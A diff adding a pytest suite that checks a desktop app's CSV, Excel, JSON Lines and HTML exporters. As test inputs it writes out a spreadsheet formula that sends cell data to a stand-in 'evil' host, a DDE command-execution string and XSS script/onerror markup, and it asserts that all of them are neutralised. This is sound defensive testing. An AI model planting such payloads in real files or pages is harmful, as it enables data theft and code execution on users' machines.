@@ -1,0 +1,260 @@
+"""Tables as other programs read them back."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import zipfile
+from datetime import datetime
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+from PIL import Image
+
+from desktop_app.adapters.exporters.csv_file import CsvExporter
+from desktop_app.adapters.exporters.html_file import HtmlExporter
+from desktop_app.adapters.exporters.jsonl_file import JsonLinesExporter
+from desktop_app.adapters.exporters.xlsx_file import LONGEST_TEXT, XlsxExporter
+from desktop_app.domain.forms.form import Date, Form, FormField, Number, Text, plain_form
+from desktop_app.domain.runs.exports import ExportOptions
+from tests.fakes.handed_over import VALUES, answered, failed, job, run
+
+BAD = '=HYPERLINK("http://evil/?"&A1,"x")'
+MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)> & \"quoted\" 'too'"
+
+
+def rows_of(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8", newline="") as file:
+        return list(csv.DictReader(file, strict=True))
+
+
+def test_csv_is_read_back_as_it_was(tmp_path: Path) -> None:
+    path = tmp_path / "a.csv"
+    assert CsvExporter().write(job(path, answered(), failed())) == ()
+    first, second = rows_of(path)
+    assert first["name"] == "span/IMG_0001.jpg"
+    assert (first["rust"], first["width"], first["count"]) == ("yes", "12.5", "4")
+    assert first["words"] == VALUES["words"]
+    assert (first["day"], first["names"], first["damage"]) == (
+        "2026-03-09",
+        "Ann; 王伟",
+        "10,20,110,220; 0,0,5,5",
+    )
+    assert second["failure"] == "The picture broken.jpg is damaged."
+    assert second["rust"] == ""
+
+
+def test_csv_is_what_the_standard_says(tmp_path: Path) -> None:
+    path = tmp_path / "a.csv"
+    CsvExporter().write(job(path, answered(values={"words": 'a "b", c\nd'})))
+    data = path.read_bytes()
+    assert data.count(b"\r\n") == 2
+    assert b'"a ""b"", c\nd"' in data
+    assert not data.startswith(b"\xef\xbb\xbf")
+
+
+def test_csv_for_excel_begins_with_a_mark(tmp_path: Path) -> None:
+    path = tmp_path / "a.csv"
+    CsvExporter().write(job(path, answered(), options=ExportOptions(for_excel=True)))
+    assert path.read_bytes().startswith(b"\xef\xbb\xbfname,rust,")
+
+
+def test_no_cell_of_a_csv_file_is_a_formula_and_numbers_stay_numbers(tmp_path: Path) -> None:
+    path = tmp_path / "a.csv"
+    item = answered(
+        values={**VALUES, "words": BAD, "width": -3, "names": [BAD]}, name="=cmd.jpg", note="@sum"
+    )
+    CsvExporter().write(job(path, item))
+    row = rows_of(path)[0]
+    assert (row["words"], row["name"], row["note"], row["names"]) == (
+        f"'{BAD}",
+        "'=cmd.jpg",
+        "'@sum",
+        f"'{BAD}",
+    )
+    assert row["width"] == "-3"
+
+
+def sheets_of(path: Path) -> tuple[Any, Any]:
+    book = openpyxl.load_workbook(path)
+    assert len(book.worksheets) == 2
+    return book.worksheets[0], book.worksheets[1]
+
+
+def test_a_workbook_holds_real_numbers_and_dates(tmp_path: Path) -> None:
+    path = tmp_path / "a.xlsx"
+    XlsxExporter().write(job(path, answered(), failed()))
+    sheet, _ = sheets_of(path)
+    heading = [cell.value for cell in sheet[1]]
+    assert heading[1:5] == ["Picture", "Is there rust?", "Width", "Bolts"]
+    cells = dict(zip(heading, sheet[2], strict=True))
+    assert cells["Width"].value == 12.5
+    assert cells["Width"].data_type == "n"
+    assert cells["Bolts"].value == 4
+    assert cells["Day"].value == datetime(2026, 3, 9)
+    assert cells["Day"].number_format == "yyyy-mm-dd"
+    assert cells["Confidence"].value == 0.75
+    assert cells["What is seen"].value == VALUES["words"]
+    assert cells["Sign"].value is None
+    assert dict(zip(heading, sheet[3], strict=True))["State"].value == "failed"
+
+
+def test_a_workbook_can_be_filtered_and_keeps_its_heading_in_view(tmp_path: Path) -> None:
+    path = tmp_path / "a.xlsx"
+    XlsxExporter().write(job(path, answered(1), answered(2)))
+    sheet, _ = sheets_of(path)
+    assert sheet.freeze_panes == "C2"
+    assert sheet.auto_filter.ref == f"B1:{openpyxl.utils.get_column_letter(sheet.max_column)}3"
+
+
+def test_a_workbook_shows_each_picture_in_its_row(tmp_path: Path) -> None:
+    path = tmp_path / "a.xlsx"
+    XlsxExporter().write(job(path, answered(1), answered(2), failed(3)))
+    sheet, _ = sheets_of(path)
+    assert [picture.anchor._from.row for picture in sheet._images] == [1, 2, 3]
+    assert {picture.anchor._from.col for picture in sheet._images} == {0}
+    assert Image.open(io.BytesIO(sheet._images[0]._data())).size == (128, 96)
+    assert sheet.row_dimensions[2].height >= 72
+
+
+def test_a_workbook_without_pictures_has_none(tmp_path: Path) -> None:
+    path = tmp_path / "a.xlsx"
+    XlsxExporter().write(job(path, answered(), options=ExportOptions(pictures=False)))
+    sheet, _ = sheets_of(path)
+    assert sheet["A1"].value == "Picture"
+    assert not any("media" in name for name in zipfile.ZipFile(path).namelist())
+
+
+def test_a_workbook_tells_about_the_run(tmp_path: Path) -> None:
+    path = tmp_path / "a.xlsx"
+    XlsxExporter().write(job(path, answered()))
+    _, sheet = sheets_of(path)
+    told = {row[0].value: row[1].value for row in sheet.iter_rows()}
+    assert told["Prompt"] == "Look at the steel."
+    assert told["Temperature"] == 0.2
+    assert told["Lightdesk"] == "1.2.3"
+    assert told["Is there rust?"] == "rust: yes or no"
+
+
+def test_no_cell_of_a_workbook_is_a_formula_or_becomes_one(tmp_path: Path) -> None:
+    path = tmp_path / "a.xlsx"
+    form = Form(
+        "=F()", (FormField("words", "=1+1", Text()), FormField("n", "N", Number())), "=cmd|' /C calc'!A0"
+    )
+    item = answered(values={"words": BAD, "n": -7}, name="+1.jpg", note="-2+3")
+    XlsxExporter().write(job(path, item, of=run(form, name="=run")))
+    with zipfile.ZipFile(path) as archive:
+        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]
+        assert not [name for name in archive.namelist() if b'Type="hyperlink' in archive.read(name)]
+    for sheet in sheets_of(path):
+        for row in sheet.iter_rows(min_row=2 if sheet.title == "Answers" else 1):
+            for cell in row:
+                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
+                    assert cell.quotePrefix, cell.value
+    sheet, _ = sheets_of(path)
+    assert sheet["C2"].value == BAD
+    assert (sheet["D2"].value, sheet["D2"].data_type) == (-7, "n")
+
+
+def test_what_a_workbook_cannot_hold_is_written_as_text_or_cut_and_told(tmp_path: Path) -> None:
+    path = tmp_path / "a.xlsx"
+    form = Form(
+        "F", (FormField("n", "N", Number()), FormField("d", "D", Date()), FormField("t", "T", Text(0)))
+    )
+    long = "x" * (LONGEST_TEXT + 5)
+    item = answered(values={"n": 12345678901234567890, "d": "1850-01-02", "t": long})
+    notes = XlsxExporter().write(job(path, item, of=run(form)))
+    sheet, _ = sheets_of(path)
+    assert sheet["C2"].value == "12345678901234567890"
+    assert sheet["D2"].value == "1850-01-02"
+    assert len(sheet["E2"].value) == LONGEST_TEXT
+    assert [(note.code, dict(note.values)["count"]) for note in notes] == [("texts-cut", 1)]
+
+
+def test_json_lines_hold_all_that_is_known(tmp_path: Path) -> None:
+    path = tmp_path / "a.jsonl"
+    JsonLinesExporter().write(job(path, answered(edited={"rust": False}), failed()))
+    first, second = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
+    assert first["values"] == {**VALUES, "rust": False}
+    assert first["answer"]["values"] == VALUES
+    assert (first["changed"], first["answer"]["original_size"]) == (["rust"], [400, 300])
+    assert second["failure"] == {"code": "picture-broken", "detail": "truncated"}
+    assert second["answer"] is None
+
+
+class Page(HTMLParser):
+    """Every tag and attribute of a page, and its text."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def test_a_page_holds_everything_itself_and_runs_nothing(tmp_path: Path) -> None:
+    path = tmp_path / "a.html"
+    form = Form(MARKUP, (FormField("t", MARKUP, Text(0)),), MARKUP)
+    item = answered(values={"t": MARKUP}, name=f"{MARKUP}.jpg", note=MARKUP)
+    HtmlExporter().write(job(path, item, of=run(form, name=MARKUP)))
+    page = Page(path.read_text("utf-8"))
+    names = [tag for tag, _ in page.tags]
+    assert "script" not in names
+    assert names.count("img") == 1
+    assert all(not name.startswith("on") for _, attributes in page.tags for name in attributes)
+    addresses = [value for _, given in page.tags for name, value in given.items() if name in ("src", "href")]
+    assert all(address is not None and address.startswith("data:image/jpeg;base64,") for address in addresses)
+    assert page.text.count("<script>alert(1)</script>") == 10
+    policy = [given["content"] for tag, given in page.tags if "http-equiv" in given]
+    assert policy == ["default-src 'none'; img-src data:; style-src 'unsafe-inline'"]
+    assert "url(" not in path.read_text("utf-8")
+
+
+def test_a_page_shows_pictures_values_and_why_something_failed(tmp_path: Path) -> None:
+    path = tmp_path / "a.html"
+    HtmlExporter().write(job(path, answered(), failed()))
+    text = path.read_text("utf-8")
+    assert text.count("<img ") == 2
+    assert '<td class="number">12.5</td>' in text
+    assert '<tr class="failed">' in text
+    assert "The picture broken.jpg is damaged." in text
+    assert "Ann; 王伟" in text
+    assert "prefers-color-scheme: dark" in text
+    assert "@media print" in text
+
+
+def test_what_is_copied_out_of_a_page_does_not_begin_like_a_formula(tmp_path: Path) -> None:
+    path = tmp_path / "a.html"
+    HtmlExporter().write(job(path, answered(values={**VALUES, "words": "=1+1"})))
+    assert "<td>=1+1" not in path.read_text("utf-8")
+    assert "<td>\u2060=1+1</td>" in path.read_text("utf-8")
+
+
+def test_headings_for_people_are_translated_and_keys_for_programs_are_not(tmp_path: Path) -> None:
+    words = {"Picture": "图片", "yes": "是", "answered": "已回答", "About this run": "关于这次运行"}
+    options = ExportOptions(translate=lambda text: words.get(text, text))
+    XlsxExporter().write(job(tmp_path / "a.xlsx", answered(), options=options))
+    HtmlExporter().write(job(tmp_path / "a.html", answered(), options=options))
+    CsvExporter().write(job(tmp_path / "a.csv", answered(), options=options))
+    sheet, second = sheets_of(tmp_path / "a.xlsx")
+    assert (sheet["B1"].value, sheet["C2"].value, second.title) == ("图片", "是", "关于这次运行")
+    assert "<th>图片</th>" in (tmp_path / "a.html").read_text("utf-8")
+    assert rows_of(tmp_path / "a.csv")[0]["state"] == "answered"
+
+
+@pytest.mark.parametrize("exporter", [CsvExporter, XlsxExporter, JsonLinesExporter, HtmlExporter])
+def test_names_that_are_no_text_can_be_written(tmp_path: Path, exporter: Any) -> None:
+    path = tmp_path / "a.out"
+    item = answered(values={"answer": "half \ud800"}, name="caf\udce9.jpg", path="/pictures/caf\udce9.jpg")
+    exporter().write(job(path, item, of=run(plain_form("Describe \udce9"))))
+    assert path.stat().st_size > 20
